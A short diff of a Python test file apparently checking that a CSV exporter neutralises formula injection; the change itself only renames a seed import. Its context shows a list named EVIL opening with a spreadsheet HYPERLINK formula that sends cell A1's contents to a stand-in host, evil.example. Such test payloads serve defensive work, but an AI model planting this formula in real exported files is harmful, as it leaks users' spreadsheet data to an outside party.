@@ -13,7 +13,7 @@ from kooperation.config import Settings
 from kooperation.csvcells import neutralise, restore
 from kooperation.services import introductions, reporting, review
 from kooperation.services.exporter import export_listings_csv
-from tests import review_seed as seed
+from tests import factories as seed
 
 EVIL = [
     '=HYPERLINK("http://evil.example/?"&A1;"Klick")',
